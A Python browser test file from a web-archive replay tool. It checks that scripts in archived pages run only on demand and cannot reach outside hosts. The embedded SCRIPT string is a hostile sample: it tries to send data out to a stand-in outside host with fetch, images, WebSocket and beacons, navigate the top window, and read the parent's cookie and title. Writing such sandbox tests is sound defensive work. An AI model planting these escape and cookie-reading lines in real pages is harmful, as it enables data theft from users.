"""The full replay, with the real worker: scripts of a snapshot run, and stay within it."""

import asyncio
import re
import threading
from collections.abc import Iterator
from hashlib import sha256
from html import unescape
from pathlib import Path
from urllib.request import urlopen

import pytest

from hozon import wiring
from hozon.cli.servers import served
from hozon.web.replay.worker import SCRIPTS, Worker
from tests.browser.attacks import OUTSIDE
from tests.browser.chromium import CHROMIUM, Answered, Asked, running
from tests.browser.reading import reader
from tests.browser.test_hostile import PIXEL
from tests.exhibits import HTML, feed
from tests.fetching import Answer
from tests.unit.usecases.conftest import Hands, a_desk
from tools import replayweb

pytestmark = [
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine"),
    pytest.mark.xdist_group("chromium"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
]
SITE = "https://lively.example.org"
CACHE = Path(__file__).parents[2] / ".cache" / f"worker-{replayweb.PACKAGE}"
WORDS = "<p>What this page says by itself is not much, but it is enough.</p>" * 4
PAGE = (
    "<!doctype html><meta charset=utf-8><title>Lively</title>"
    f"<h1>Waiting</h1>{WORDS}<img src=/a.png><script src=/a.js></script>"
)
# ruff: noqa: E501  a script
# It shows what it can read, and tries to get out.
SCRIPT = f"""
document.querySelector('h1').textContent = 'Running';
for (const way of [
  () => fetch('{OUTSIDE}/fetch', {{mode: 'no-cors'}}),
  () => {{ new Image().src = '{OUTSIDE}/image'; }},
  () => new WebSocket('wss://outside.example/socket'),
  () => navigator.sendBeacon('{OUTSIDE}/beacon', 'x'),
  () => setTimeout(() => Function('return this')().top.location.replace('{OUTSIDE}/top'), 3000),
  () => setTimeout(() => Function('return this')().parent.parent.location.replace('{OUTSIDE}/top'), 2500),
  () => open('{OUTSIDE}/open'),
  () => {{ document.body.dataset.read = Function('return this')().top.document.title; }},
  () => {{ document.body.dataset.cookie = Function('return this')().top.document.cookie; }},
]) {{ try {{ Promise.resolve(way()).catch(() => 0); }} catch {{ }} }}
"""


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve an archive with such a page, which shares its script with an earlier one."""
    try:
        worker = Worker(replayweb.fetch(CACHE))
    except replayweb.Unavailable as e:
        pytest.skip(str(e))
    place = tmp_path_factory.mktemp("lively") / "archive"
    script = (("Content-Type", "text/javascript"),)
    site = {
        f"{SITE}/1": Answer(PAGE.encode(), 200, HTML),
        f"{SITE}/2": Answer(PAGE.encode(), 200, HTML),
        f"{SITE}/a.js": Answer(SCRIPT.encode(), 200, script),
        f"{SITE}/a.png": Answer(PIXEL, 200, (("Content-Type", "image/png"),)),
        f"{SITE}/feed": feed(
            "Lively", "en", [(f"{SITE}/{n}", "Lively", "It is.", "x") for n in (1, 2)]
        ),
    }
    with a_desk(place, recheck_plan="none") as desk:
        desk.follow(f"{SITE}/feed")
        asyncio.run(desk.run(desk.fetcher(site)))  # type: ignore[arg-type]  # all are replies
    clock = Hands()
    clock.advance(minutes=30)
    with (
        wiring.embedded(place, clock=clock) as opened,
        served(opened.archive, "127.0.0.1", 0, runner=worker) as serving,
    ):
        threading.Thread(target=serving.pages.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{serving.pages.server_address[1]}"
        serving.pages.shutdown()


async def test_scripts_run_by_choice_and_stay_inside(town: str, tmp_path: Path) -> None:
    """Still at first; run on demand, from one WARC; nobody outside is asked."""
    asked: list[str] = []

    def site(request: Asked) -> Answered:
        asked.append(request.uri)
        is_ours = request.uri.startswith("http://127.0.0.1:")
        return Answered(body=None) if is_ours else Answered(body=b"ok")

    async with running(tmp_path / "profile") as browser:
        tab = await reader(browser)
        await tab.see()
        for number in (1, 2):
            await tab.open(f"{town}/replay/{SITE}/{number}")
            assert "Waiting" == await tab.framed(
                "document.querySelector('h1').innerText"
            )
            await tab.click('header a[href*="js_/"]')
            shown = "frames[0]?.document.querySelector('h1')?.innerText"
            running_now = f"{shown} === 'Running' && "
            read = "JSON.stringify({...frames[0].document.body.dataset})"
            found = await tab.framed(f"{running_now} {read}")
            assert not {"Hozon", "session"} & {*re.findall(r"\w+", found)}
            width = "String(frames[0].document.images[0].naturalWidth)"
            assert "1" == await tab.framed(running_now + width)
            assert town in await tab.evaluate("location.href")
        ran = False
        for _ in range(3):  # what a busy machine has not shown by then, it shows next
            where = f"{town}/replay/20261123120000js_/{SITE}/2"
            visit = await browser.visit(where, site, scripts=True, settle_s=4)
            ran = ran or any(each.endswith("/a.js") for each in visit.scripts)
            if ran:
                break
    assert ran
    assert [] == [each for each in asked if not each.startswith("http://127.0.0.1:")]


def test_the_worker_is_unmodified_and_says_where_it_is_from(town: str) -> None:
    """It comes with its licence and its source (AGPL §13)."""
    with urlopen(f"{town}/replay/20261123120000js_/{SITE}/1") as answer:
        found = re.search('<iframe [^>]*src="(http://[^/"]+)', answer.read().decode())
    assert found is not None
    with urlopen(f"{unescape(found[1])}/full/sw.js") as answer:
        assert SCRIPTS["sw.js"] == sha256(answer.read()).hexdigest()
        assert "/full/LICENSE" in answer.headers["link"]
        assert "github.com/webrecorder" in answer.headers["link"]
    with urlopen(f"{found[1]}/full/LICENSE") as answer:
        assert b"GNU AFFERO" in answer.read()
